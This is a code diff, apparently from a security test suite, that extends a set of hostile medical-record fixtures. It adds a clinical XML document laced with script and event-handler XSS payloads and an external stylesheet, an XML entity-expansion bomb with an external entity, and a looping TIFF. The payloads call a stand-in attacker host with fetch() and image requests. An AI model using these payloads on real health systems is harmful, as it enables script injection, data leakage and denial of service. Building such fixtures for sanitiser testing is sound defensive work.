@@ -19,13 +19,16 @@ RUN: Final = f"document.title='taken';fetch('{EVIL}/');new Image().src='{EVIL}/i
 
 
 def hostile_bundle() -> dict[str, Any]:
-    """Titles: page, drawing, letter, scan."""
+    """Titles: page, drawing, letter, scan, report, bomb, fax."""
     narrative = {"status": "generated", "div": f"<div><script>{RUN}</script><img src='{EVIL}/n'/></div>"}
     documents = [
         ("page", "text/html", f'<html><body onload="{RUN}"><script>{RUN}</script></body></html>'.encode()),
         ("drawing", "image/svg+xml", _svg()),
         ("letter", "application/pdf", _pdf()),
         ("scan", "application/dicom", _dicom()),
+        ("report", "text/xml", _cda()),
+        ("bomb", "text/xml", _entities()),
+        ("fax", "image/tiff", _tiff()),
     ]
     entries = [
         {"resource": {"resourceType": "Patient", "text": narrative, "name": [{"text": f"<b>{RUN}</b>"}]}},
@@ -86,3 +89,34 @@ def _dicom() -> bytes:
     file = io.BytesIO()
     image.save_as(file)
     return file.getvalue()
+
+
+def _cda() -> bytes:
+    """A clinical document with a stylesheet, scripts, addresses and pictures from elsewhere."""
+    return (
+        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{EVIL}/style.xsl"?>'
+        '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:h="http://www.w3.org/1999/xhtml">'
+        f"<title>Report &lt;script&gt;{RUN}&lt;/script&gt;</title>"
+        "<component><structuredBody><component><section>"
+        f'<text><h:script>{RUN}</h:script><script>{RUN}</script><h:img src="{EVIL}/h" onerror="{RUN}"/>'
+        f'<img src="{EVIL}/cda"/><iframe src="{EVIL}/f"/><linkHtml href="javascript:{RUN}">here</linkHtml>'
+        f'<renderMultiMedia referencedObject="m"/><paragraph onclick="{RUN}">Result: normal.</paragraph>'
+        "</text>"
+        f'<entry><observationMedia ID="m"><value mediaType="image/png"><reference value="{EVIL}/m"/></value>'
+        "</observationMedia></entry></section></component></structuredBody></component></ClinicalDocument>"
+    ).encode()
+
+
+def _entities() -> bytes:
+    """A clinical document of a few lines that would be gigabytes, and asks for a file."""
+    grow = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+    return (
+        f'<!DOCTYPE ClinicalDocument [<!ENTITY a0 "bomb">{grow}<!ENTITY x SYSTEM "{EVIL}/x">]>'
+        '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&a9;&x;</title></ClinicalDocument>'
+    ).encode()
+
+
+def _tiff() -> bytes:
+    """Pages that lead in a circle."""
+    entry = b"\x00\x01\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00"
+    return b"II*\x00\x08\x00\x00\x00\x01\x00" + entry + b"\x08\x00\x00\x00"
